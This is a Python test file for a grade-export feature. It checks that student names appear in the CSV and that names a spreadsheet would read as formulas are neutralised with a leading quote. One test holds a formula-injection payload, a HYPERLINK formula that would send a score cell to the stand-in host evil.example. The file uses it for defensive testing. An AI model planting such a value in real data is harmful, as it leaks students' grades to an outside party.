"""Grades as CSV: every column, names beside logins, and no cell a spreadsheet would run."""

import csv
import io

from hubsetup import grades
from hubsetup.person_names import PersonName


def exported(rows, names):
    output = io.StringIO()
    grades.export_csv(rows, output, names)
    return output.getvalue()


def row(student, score):
    return {"course": "finance", "assignment": "ps1", "student": student,
            "submitted": "2026-12-01 10:00:00", "score": score, "max_score": 3.0}


def test_each_row_has_the_students_name_and_score():
    text = exported([row("zhang-san", 2.5), row("nobody", 0.0)], {"zhang-san": PersonName(full="张三")})
    assert list(csv.reader(io.StringIO(text))) == [
        grades.EXPORT_COLUMNS,
        ["finance", "ps1", "zhang-san", "张三", "2026-12-01 10:00:00", "2.5", "3.0"],
        ["finance", "ps1", "nobody", "", "2026-12-01 10:00:00", "0.0", "3.0"],
    ]


def test_a_name_made_of_a_formula_is_shown_as_typed_not_run():
    """A name an LMS sent (or accounts.csv holds) that a spreadsheet would take for a formula."""
    formula = '=HYPERLINK("http://evil.example/?"&F2,"Zhang")'
    names = {"a": PersonName(full=formula), "b": PersonName(full="+1 call me"), "c": PersonName(full="@SUM(A1)"),
             "d": PersonName(full="-Marie")}
    lines = list(csv.reader(io.StringIO(exported([row(login, 1.0) for login in "abcd"], names))))[1:]
    assert [line[3] for line in lines] == ["'" + formula, "'+1 call me", "'@SUM(A1)", "'-Marie"]
    assert [line[5] for line in lines] == ["1.0"] * 4  # numbers stay numbers
